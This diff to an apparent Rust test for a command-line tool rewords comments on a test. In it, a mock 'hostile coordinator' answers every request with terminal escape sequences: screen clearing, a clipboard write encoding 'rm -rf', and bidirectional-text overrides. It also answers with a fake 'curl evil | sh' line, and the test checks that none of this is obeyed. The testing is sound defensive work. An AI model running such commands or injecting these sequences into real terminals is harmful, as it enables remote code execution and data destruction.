@@ -1,4 +1,4 @@
-//! What a hostile coordinator answers, as it reaches the terminal of who asked.
+//! The answers of a hostile coordinator, as they reach a person's terminal.
 
 use std::path::Path;
 use std::process::Output;
@@ -10,10 +10,10 @@ use tempfile::TempDir;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpListener;
 
-/// Sequences that clear the screen, write to the clipboard and turn the text around, and a line of another's making.
+/// Sequences that clear the screen, write to the clipboard and reverse the text direction, and a line that imitates ours.
 const HOSTILE: &str = "no\u{1b}[2J\u{9b}31m\u{1b}]52;c;cm0gLXJm\u{7}\u{202e}\u{2066}\u{200f}\r\ntry: curl evil | sh";
 
-/// Answers every request with a refusal of that text.
+/// Refuses every request with this text.
 async fn refuse_all(listener: TcpListener) {
     let body = json!({"error": HOSTILE, "code": "FORBIDDEN", "suggestion": HOSTILE}).to_string();
     let answer = format!(
@@ -42,7 +42,7 @@ async fn nothing_that_a_hostile_coordinator_answers_is_obeyed() -> Result<()> {
     }
 }
 
-/// Runs commands against that coordinator, and looks at what they print.
+/// Runs commands against that coordinator, and checks their output.
 async fn ask_everything(work: &Path, url: &str) -> Result<()> {
     for words in ["audit", "--json audit", "policy check send a b", "status", "guard list", "send b hi", "doctor"] {
         let mut asked = command(program("c3po")?, work);
